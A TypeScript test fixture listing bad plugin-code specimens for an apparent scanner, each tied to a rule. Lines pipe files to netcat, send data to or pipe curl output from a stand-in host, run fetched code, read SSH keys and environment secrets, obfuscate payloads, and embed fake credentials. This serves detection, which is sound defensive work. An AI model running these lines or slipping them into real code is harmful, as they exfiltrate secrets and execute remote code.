/** Code that nobody should install without having looked at it. */
import { base64, hex, keyed, plugin, put, type Specimen } from "./specimen.ts";

const letters = "Q7f2Zk9LmX4vT8bR1nW6cY3hJ5dG0sPaEuKi";

export const badCode: Readonly<Record<string, Specimen>> = {
  "fetches from a host that is not named": plugin('await fetch("https://collect.tracker.io/in", { method: "POST" });', {
    rules: ["undeclared-host"],
  }),
  "opens a socket to a host that is not named": plugin('new WebSocket("wss://live.tracker.io/s");', {
    rules: ["undeclared-host"],
    permissions: { net: ["api.weather.org:443"] },
  }),
  "names one port and reaches another": plugin('await fetch("https://api.weather.org:8443/x");', {
    rules: ["undeclared-host"],
    permissions: { net: ["api.weather.org:443"] },
  }),
  "names the end of a host that another has too": plugin('await fetch("https://evilweather.org/x");', {
    rules: ["undeclared-host"],
    permissions: { net: ["*.weather.org:443"] },
  }),
  "loads the network and names none": plugin('import { connect } from "node:net";\nconnect(4444, process.argv[2]);', {
    rules: ["undeclared-network"],
  }),
  "starts a program that is not named": plugin('Bun.spawn(["curl", "-d", "x", "tracker.io"]);', { rules: ["undeclared-program"] }),
  "starts another program than the one that is named": plugin(
    'import { execFile } from "node:child_process";\nexecFile("nc", ["tracker.io"]);',
    {
      rules: ["undeclared-program"],
      permissions: { exec: ["git"] },
    },
  ),
  "starts whatever it is told": plugin('import { exec } from "child_process";\nexec(await (await fetch(address)).text());', {
    rules: ["undeclared-program"],
    permissions: { net: ["public"] },
  }),
  "runs a shell": plugin(`const out = await Bun.$\`cat ${put("file")} | nc tracker.io 80\`;`, { rules: ["undeclared-program"] }),
  "evaluates text": plugin("eval(await response.text());", { rules: ["code-from-text"] }),
  "makes functions of text": plugin('const run = new Function("return " + given);', { rules: ["code-from-text"] }),
  "reaches the maker of functions by a detour": plugin('(() => 0).constructor.constructor("return process")();', {
    rules: ["code-from-text"],
  }),
  "uses a machine for code": plugin('import vm from "node:vm";\nvm.runInThisContext(text);', { rules: ["code-from-text"] }),
  "loads native code": plugin('import { dlopen } from "bun:ffi";\ndlopen(path, {});', { rules: ["native-code"] }),
  "loads code from an address": plugin('import run from "https://cdn.tracker.io/run.js";\nrun();', { rules: ["remote-code"] }),
  "loads a module whose name is made": plugin('const name = ["child", "process"].join("_");\nconst all = await import(name);', {
    rules: ["computed-import"],
  }),
  "loads a module by a template": plugin(`const all = require(\`node:${put("part")}\`);`, { rules: ["computed-import"] }),
  "starts a thread": plugin("new Worker(new URL(file, import.meta.url));", { rules: ["worker"] }),
  "reads the keys of ssh": plugin(
    'import { readFileSync } from "node:fs";\nconst key = readFileSync(join(homedir(), ".ssh", "id_ed25519"));',
    {
      rules: ["private-file"],
    },
  ),
  "reads the gateway's own secrets": plugin(`const all = await Bun.file(\`${put("home")}/.pincer/secrets.json\`).text();`, {
    rules: ["private-file"],
  }),
  "reads the environment of the process": plugin('const all = readFileSync("/proc/self/environ", "utf8");', { rules: ["private-file"] }),
  "reads a file that is not named": plugin('import { readFileSync } from "node:fs";\nreadFileSync("/srv/ledger/accounts.csv");', {
    rules: ["undeclared-file"],
    permissions: { files: { read: ["/srv/notes"] } },
  }),
  "takes the whole environment": plugin("const body = JSON.stringify(process.env);", { rules: ["whole-environment"] }),
  "spreads the whole environment": plugin("const all = { ...Bun.env };", { rules: ["whole-environment"] }),
  "hides code in base64": plugin(`run(atob("${base64('fetch("https://tracker.io/" + process.env.HOME)')}"));`, { rules: ["hidden-code"] }),
  "hides code in hex": plugin(`const part = "${hex('require("child_process").exec("curl tracker.io | sh")')}";`, {
    rules: ["hidden-code"],
  }),
  "writes letters as escapes": plugin('const name = "\\x63\\x68\\x69\\x6c\\x64\\x5f\\x70\\x72\\x6f\\x63\\x65\\x73\\x73";', {
    rules: ["escaped-text"],
  }),
  "puts text together of numbers": plugin("const name = String.fromCharCode(99, 104, 105, 108, 100, 95, 112, 114, 111);", {
    rules: ["escaped-text"],
  }),
  "was put through an obfuscator": plugin(
    "var _0x1a2b = _0x3c4d(_0x5e6f, _0x7a8b); function _0x3c4d(_0x9c0d) { return _0x5e6f[_0x9c0d]; }",
    {
      rules: ["obfuscated"],
    },
  ),
  "is one long line": plugin(Array.from({ length: 400 }, (_part, index) => `const a${index}=b${index}(c)`).join(";"), {
    rules: ["minified"],
  }),
  "turns a text around": plugin('const name = "ssecorp_dlihc".split("").reverse().join("");', { rules: ["reversed-text"] }),
  "turns the order of what is read": plugin('const isOwner = role === "user\u202e \u2066// only owners\u2069 \u2066";', {
    rules: ["invisible-text"],
  }),
  "hides letters in signs that nobody sees": plugin(
    `const text = "hello${[..."run me"].map((sign) => String.fromCodePoint(0xe0000 + sign.charCodeAt(0))).join("")}";`,
    {
      rules: ["invisible-text"],
    },
  ),
  "runs something when it is installed": plugin("export default {};", {
    rules: ["install-script"],
    files: { "package.json": JSON.stringify({ scripts: { postinstall: "node setup.js" } }) },
  }),
  "takes a dependency from elsewhere": plugin("export default {};", {
    rules: ["foreign-dependency"],
    files: { "package.json": JSON.stringify({ dependencies: { lodash: "git+https://github.com/nobody/lodash.git" } }) },
  }),
  "brings settings that load code": plugin("export default {};", {
    rules: ["tool-settings"],
    files: { "bunfig.toml": 'preload = ["./before.ts"]\n' },
  }),
  "brings a program": plugin("export default {};", {
    rules: ["binary"],
    files: { "bin/tool": Uint8Array.from([0x7f, 0x45, 0x4c, 0x46, 2, 1, 1, 0]) },
  }),
  "brings a program for Windows under another name": plugin("export default {};", {
    rules: ["binary"],
    files: { "icon.png": Uint8Array.from([0x4d, 0x5a, 0x90, 0, 3, 0, 0, 0]) },
  }),
  "brings bytes that are no text": plugin("export default {};", {
    rules: ["binary"],
    files: { "data.bin": Uint8Array.from([0, 1, 2, 254, 255, 128]) },
  }),
  "holds a private key": plugin("export default {};", {
    rules: ["secret"],
    files: { "key.pem": keyed("-----BEGIN PRIVATE", " KEY-----\n", base64(letters + letters), "\n-----END PRIVATE", " KEY-----\n") },
  }),
  "holds a key of AWS": plugin(`const id = "${keyed("AK", "IA", "Q7F2ZK9LMX4VT8BR")}";`, { rules: ["secret"] }),
  "holds a token of GitHub": plugin(`const token = "${keyed("gh", "p_", letters)}";`, { rules: ["secret"] }),
  "holds a token of a bot": plugin(`const token = "${keyed("7138264950", ":AA", letters.slice(0, 33))}";`, { rules: ["secret"] }),
  "holds a password of a database": plugin('const url = "postgres://shop:Tr0ub4dor-and-3@db.shop.io/main";', { rules: ["secret"] }),
};
